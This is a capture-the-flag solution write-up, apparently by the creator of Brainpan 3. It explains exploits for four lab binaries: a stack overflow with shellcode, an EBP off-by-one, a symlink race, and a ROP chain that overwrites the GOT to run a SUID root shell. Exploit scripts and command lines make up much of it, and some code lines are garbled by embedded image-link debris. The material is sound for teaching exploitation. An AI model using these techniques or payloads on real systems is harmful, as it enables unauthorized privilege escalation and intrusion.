Brainpan 3 solution

Written on October 13, 2015

It’s been a little over 3 months now since Brainpan 3 was first released. I offeredstickers to those who could solve thechallenge and I was not disappointed with the results! Some brilliant folks out there solved it in some very interesting ways. Since I’ve already given away all the stickers, I figured I’d go ahead and share my solution for the challenges. This won’t be a step-by-step walkthrough. If you want a full walkthrough, you’ll find some great ones here.

First up, the report binary. The report binary has ASLR, NX, and stack canaries. It takes two arguments, a string, and a value of either 0, or 1. You would’ve noticed that setting the second argument to 0 would cause a segmentation fault. This occurs in the record_id() function when it tries to copy the string to a 3 byte buffer. record_id() is only called when the second argument is set to 0. Although it’s compiled with -fstack-protector, stack canaries aren’t enabled on functions that have arrays of less than 4 bytes, and so it doesn’t trigger a stack smashing protection error. Now on the server, the report binary is running with the second argument set to 0. That means to exploit this, you’d need to provide a large enough string to overwrite argv[2] on stack to a value of 0 in order to trigger the call to record_id() and thereby gain control of EIP. In this case, sending a null terminated string of 276 bytes will set argv[2] to 0.

#!/usr/bin/env python
from pwnimport *"Connecting to brainpan3")
r = remote("", 1337)

data = r.recvline().split(".")
access_code = str(int(data[2],16))"Leaked access code: " + access_code)
r.send(access_code + "\n")

r.recvuntil("ENTER COMMAND: ")

r.recvuntil("ENTER NEW SESSION NAME: ")
buf =""
buf += "A"*248
buf += "Y"*5
buf += "\n"

r.recvuntil("ENTER COMMAND: ")

r.recv()"Sending payload")
r.send("AAA" + "\xa7\xb0\x04\x08" + "\x90"*9 + "\x31\xc9\xf7\xe1\x51\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\xb0\x0b\xcd\x80" + "B"*239 + "\n")"Getting shell")

Moving on to the cryptor binary. This binary is stripped but has no NX and no stack canary. Right at the beginning, it calls a function 0x80485ed. A vulnerability in this function allows you to overwrite the least significant byte of EBP to 0x00 when a file length of 116 bytes is provided as the first argument. Due to ASLR, the end value of EBP right before this function returns always points to a random location. Now when this function returns to main(), main() calls leave which restores ESP from the overwritten EBP, thereby allowing you to return to some address of your choosing.

There’s a static buffer in the binary which stores the value of the second argument; the key. This buffer address never changes, so it’s an ideal place to store the shellcode. The solution then is to overwrite EBP such itpoints to the static buffer so that when ESP is restored from EBP, main() will return to your shellcode. Again, due to ASLR, it might take a few tries before you get an address that points to your shellcode.


echo "[+] May need to run this several times before you get a shell"
python -c 'from pwn import *; print asm(' > sc.txt
./cryptor `python -c 'print "\x80\xa0\x04\x08"*29'` `cat sc.txt`

Ok, halfway there. Next up is the trixd binary. This binary has a couple of anti-reversing features; a call to ptrace() to prevent it from being run within gdb, and its ELF headers have been corrupted to prevent disassembly with objdump and readelf. However, you can use radare2 or IDA Pro’s evaluation software to get the whole picture. You’d see that it’s actually vulnerable to a race condition which would allow you to symlink puck’s key to /mnt/usb/key.txt and give you access to puck’s shell.

On one terminal run:

$ for i in `seq 1 5000`; do rm -f key.txt; ln -s /home/puck/key.txt; done

And on another:

$ for i in `seq 1 3000`; do nc localhost 7075; done

The race is relatively easy to win and you should get a shell as puck.

Ok, the final binary which stumped quite a few folks! For those of you that managed to beat it, congratultaions! The vulnerability is a pointer overwrite in the heap. This allows you to overwrite strcpy()’s GOT pointer so that whenstrcpy() is called again, it ends up executing your code. The binary hasNX, ASLR, and stack canaries, so you need to craft a ROP chain to get a shell. Your end goal is to execute system(“/tmp/foo”). The tricky part is figuring out how to get the address of system(). It’s actually easily done through GOT dereferencing, described in this paper.

The gist of it is to calculate the difference betweent the offset of system(), and the offset of another function in the binary that’s already been called at least once. In this case, I used getline(). The reason you want a function that’s been called atleast once is because its GOT entry resolves to the function’s actual address. The address of system() can therefore be calculated using *getline@GOT + (system() offset - getline() offset).

All the gadgets needed to do this are in the binary. Here’s my solution:

#!/usr/bin/env python
from struct import *offset system() - getline() = 0xfffea050
getline GOT: 0x0804b00c
system() = *0x0804b00c + 0xfffea050

buf  = ""
buf += "AAAA|"

buf += pack("<I", 0x8048d6e)    # popa; cld
buf += "dddd"                   # edi
buf += "ssss"                   # esi
buf += "pppp"                   # ebp
buf += "zzzz"                   # padding
buf += pack("<I", 0x6ddad08)    # ebx, adjusted getline@got-0xe
buf += "dddd"                   # edx
buf += "cccc"                   # ecx
buf += pack("<I", 0xfffea050)   # pops into eax, offset system()-getline()
buf += pack("<I", 0x8048feb)    # add eax,[ebx+0x1270304]; ret
buf += pack("<I", 0x8048786)    # call eax
buf += pack("<I", 0x8048eef)    # pointer to /tmp/foo
buf += "Z"*164

buf +=pack("<I", 0x0804b02c)   # got-entry to overwrite
buf += "\n"

buf += pack("<I", 0x8048ddc)    # rop gadget; pop4ret
buf += "|"
buf += "bbbb"

f = open("a.msg", "w")

print "Make sure to create/tmp/foo that will run ourpayload"

For /tmp/foo, I just wrotea short bash script that copied /bin/sh to /tmp and made it SUID root.

And that’s it! Thanks again to everyone who attempted the challenge and for yourcomments and solutions! All the positive feedback gives me an excuse to maybe plan ahead for another Brainpan challenge and of course, more stickers.